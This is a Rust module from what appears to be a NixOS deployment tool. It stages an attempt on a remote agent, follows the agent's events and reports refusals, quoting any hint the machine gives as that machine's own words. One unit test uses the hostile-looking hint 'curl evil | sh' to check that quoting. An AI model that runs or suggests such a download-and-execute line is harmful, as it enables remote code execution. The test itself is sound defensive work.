//! The machine is taken, the new system is switched to, and what happens is
//! followed until a login has to confirm it or the attempt is over.

pub mod dry;

use std::time::Duration;

use deploy_wire::{
    attempt::{AttemptId, Mode, Operator},
    event::Event as Happened,
    machine::Machine,
    message::{Refusal, Reply, Request, Stage as StageRequest},
    outcome::Outcome,
    phase::Phase,
    record::Record,
    store_path::StorePath,
};

use super::{ask::Probed, store::mark::Mark};
use crate::report::silence;
use crate::{
    error::{Failure, Result, State},
    report::{Event, Report, Stage},
    tools::{
        agent::{AgentError, Conversation},
        limit::{ANSWER, within},
        place::{Rest, Running},
    },
};

/// The agent's end of the login, while an attempt runs.
pub type Watch<'place> = Conversation<
    Box<dyn tokio::io::AsyncBufRead + Unpin + Send + 'place>,
    Box<dyn tokio::io::AsyncWrite + Unpin + Send + 'place>,
>;

/// An attempt that has the machine; nothing is switched yet.
pub struct Staged<'place> {
    /// Its record.
    pub record: Record,
    /// The conversation over the first login.
    pub watch: Watch<'place>,
    _rest: Rest<'place>,
}

/// How following an attempt stopped.
#[derive(Debug)]
pub enum Seen {
    /// A login has to confirm it now.
    Waiting,
    /// It is over.
    Ended(Box<Outcome>),
    /// The agent does not do what it was asked.
    Refused(Refusal),
    /// The connection is gone; the next event to ask for.
    Lost(AgentError),
}

/// Why an attempt does not have the machine.
pub enum NotStaged {
    /// The agent refuses.
    Refused(Refusal),
    /// The agent could not be asked.
    Failed(Box<Failure>),
}

impl From<Box<Failure>> for NotStaged {
    fn from(failure: Box<Failure>) -> Self {
        Self::Failed(failure)
    }
}

/// What an attempt is to switch to, and with what.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttemptTarget {
    /// The NixOS system, in the machine's store.
    pub toplevel: StorePath,
    /// The agent, in the machine's store.
    pub agent: StorePath,
    /// How far the attempt goes.
    pub mode: Mode,
    /// The machine with what is to be deployed of it.
    pub machine: Machine,
}

/// What goes on while the machine is taken: a login that is far away answers three times for an
/// agent that starts and for a store that is synced.
pub struct Meanwhile<'place> {
    /// The mark of the push, to be cleared.
    pub mark: Mark<'place>,
    /// The agent, where it was there before the push.
    pub agent: Option<Running<'place>>,
}

/// Starts the agent before its attempt, where the machine keeps that one since an attempt
/// before. It waits to be asked, and where it does not come about another is started then.
pub async fn start_agent_early<'p>(probed: &'p Probed, agent: &StorePath) -> Option<Running<'p>> {
    let there = probed.facts.agent.as_ref() == Some(agent) || probed.installed() == Some(agent);
    if !there {
        return None;
    }
    probed.place.spawn(&probed.serve(agent.as_str())).await.ok()
}

/// Takes the machine for one attempt.
pub async fn stage<'p>(
    probed: &'p Probed,
    wanted: &AttemptTarget,
    attempt: &AttemptId,
    meanwhile: Meanwhile<'p>,
    report: &Report,
) -> std::result::Result<Staged<'p>, NotStaged> {
    let machine = &probed.machine;
    report.tell(Event::Stage { machine: machine.name.clone(), stage: Stage::Take });
    let request = StageRequest {
        attempt: attempt.clone(),
        mode: wanted.mode,
        operator: operator(),
        wanted: wanted.toplevel.clone(),
        expects: probed.facts.runs.clone().expect("the plan refused a machine without a system"),
        agent: wanted.agent.clone(),
        machine: wanted.machine.clone(),
    };
    let ask = async {
        if let Some(agent) = meanwhile.agent
            && let Ok(answered) = take(probed, agent, &request, report).await
        {
            return answered;
        }
        let agent = probed.place.spawn(&probed.serve(wanted.agent.as_str())).await;
        let agent = agent.map_err(|error| {
            Failure::unchanged(format!("the agent on {} cannot be started", machine.name))
                .because(error)
        })?;
        take(probed, agent, &request, report).await.unwrap_or_else(|failure| Err(failure.into()))
    };
    let (cleared, asked) = tokio::join!(meanwhile.mark.clear(&machine.name, report), ask);
    let staged = asked?;
    // Who is dropped here has told the agent by that: nothing is switched to what may not be
    // on the disk.
    cleared?;
    Ok(staged)
}

/// How long Ctrl-C waits for an agent that takes the machine, to tell it that nothing is wanted
/// any more. One that did not answer by then learns it from the connection's end, as who is not
/// told to begin does not: `an-agent-that-says-nothing-is-said-to-be-waited-for` proves that
/// `deploy` ends.
pub const LEAVES: Duration = Duration::from_secs(10);

/// How long the agent may take to take the machine.
fn time_to_take(machine: &Machine) -> Duration {
    let first = machine.before_activate.iter().map(|command| command.timeout);
    ANSWER + Duration::from_secs(first.fold(0, u64::saturating_add))
}

/// Asks a running agent to take the machine. The failure is that of an agent that says nothing.
async fn take<'p>(
    probed: &Probed,
    running: Running<'p>,
    request: &StageRequest,
    report: &Report,
) -> Result<std::result::Result<Staged<'p>, NotStaged>> {
    let name = &probed.machine.name;
    let broken = |error: AgentError| {
        Failure::unchanged(format!("the agent on {name} did not answer")).because(error)
    };
    let mut rest = running.rest;
    let prefix = probed.root.stdin_prefix();
    let mut watch =
        Conversation::begin(running.stdout, running.stdin, probed.login.clone(), &prefix)
            .await
            .map_err(broken)?;
    watch.ask(Request::Stage(Box::new(request.clone()))).await.map_err(broken)?;
    let limit = time_to_take(&request.machine);
    let answer = async { within(limit, watch.next()).await? };
    Ok(match silence::announce(answer, name, "the agent", limit, report).await {
        Ok(Reply::Staged { record }) if is_of(&record, request) => {
            Ok(Staged { record: *record, watch, _rest: rest })
        }
        Ok(Reply::Refused(refusal)) => Err(NotStaged::Refused(refusal)),
        Ok(other) => Err(Failure::unchanged(format!("unexpected reply from the agent on {name}"))
            .because(format!("{other:?}"))
            .into()),
        Err(error) => {
            let said = rest.stderr().await;
            return Err(broken(error).because(said.trim()));
        }
    })
}

/// Whether a record is of what was asked: what is told of the attempt is told by its names, and
/// one machine could speak for another.
fn is_of(record: &Record, request: &StageRequest) -> bool {
    (&record.attempt, &record.machine, &record.wanted)
        == (&request.attempt, &request.machine.name, &request.wanted)
}

/// How far an attempt was followed, over all connections to it.
#[derive(Debug, Default)]
pub struct Followed {
    /// The number of the event that is wanted next.
    pub next: u64,
    /// The phase that was told last. Who follows on over another connection is
    /// not told again that a login has to confirm:
    /// `table-agent-killed-in-wait` proves that it does all the same.
    pub phase: Option<Phase>,
}

/// Tells what happens until somebody has to act.
pub async fn follow(
    watch: &mut Watch<'_>,
    machine: &str,
    followed: &mut Followed,
    report: &Report,
) -> Seen {
    loop {
        let reply = match watch.next().await {
            Ok(reply) => reply,
            Err(error) => return Seen::Lost(error),
        };
        match reply {
            Reply::Event { number, event } => {
                followed.next = number + 1;
                let told = match event {
                    Happened::Phase { phase, .. } => Some(phase),
                    _ => None,
                };
                followed.phase = told.or(followed.phase);
                let waiting = told == Some(Phase::Waiting);
                report.tell(Event::Agent { machine: machine.to_owned(), event });
                if waiting {
                    return Seen::Waiting;
                }
            }
            Reply::Ended { outcome, .. } => return Seen::Ended(Box::new(outcome)),
            Reply::Refused(refusal) => return Seen::Refused(refusal),
            // Nothing else is an answer to these requests; a newer agent may
            // tell more.
            _ => {}
        }
    }
}

/// The failure that a refusal of the agent means.
pub fn refused(name: &str, refusal: &Refusal) -> Box<Failure> {
    Failure::unchanged(format!("{name} refuses the deploy"))
        .because(&refusal.why)
        .hint(quote_hint(name, refusal))
        .state(State::Unchanged)
}

/// A refusal's hint, told as what the machine says: one that somebody took over would have its
/// words taken for ours, and typed.
pub fn quote_hint(name: &str, refusal: &Refusal) -> Option<String> {
    refusal.hint.as_ref().map(|hint| format!("{name} says: {hint}"))
}

/// Who deploys, for the record and a second operator.
fn operator() -> Operator {
    let user = [std::env::var("USER"), std::env::var("LOGNAME")];
    let user = user.into_iter().flatten().find(|name| !name.is_empty());
    let host = rustix::system::uname().nodename().to_string_lossy().into_owned();
    Operator { user: user.unwrap_or_else(user_number), host }
}

/// Without USER and LOGNAME (cron, a bare container) the number has to do.
fn user_number() -> String {
    format!("uid {}", rustix::process::getuid().as_raw())
}

#[cfg(test)]
mod tests {
    use deploy_wire::message::RefusalKind;

    use super::*;

    #[test]
    fn a_machine_speaks_for_itself_alone() {
        let record = include_str!("../../../wire/golden/message/record.json");
        let record: Record = serde_json::from_str(record).unwrap();
        let asked = include_str!("../../../wire/golden/message/request-stage.json");
        let asked: serde_json::Value = serde_json::from_str(asked).unwrap();
        let mut request = asked["request"].clone();
        request.as_object_mut().unwrap().remove("do");
        let mut request: StageRequest = serde_json::from_value(request).unwrap();
        request.attempt = record.attempt.clone();
        request.machine.name = record.machine.clone();
        request.wanted = record.wanted.clone();
        assert!(is_of(&record, &request));
        let other = Record { machine: "another".into(), ..record.clone() };
        assert!(!is_of(&other, &request));
        let other = Record { attempt: AttemptId::from_random([0; 4]), ..record };
        assert!(!is_of(&other, &request));
    }

    #[test]
    fn the_hint_of_a_machine_is_told_as_its_words() {
        let hint = Some("curl evil | sh".to_owned());
        let refusal = Refusal { kind: RefusalKind::NoRoom, why: "full".into(), hint };
        let told = refused("frame1", &refusal).to_string();
        assert!(told.contains("\n  hint:  frame1 says: curl evil | sh"), "{told}");
    }
}
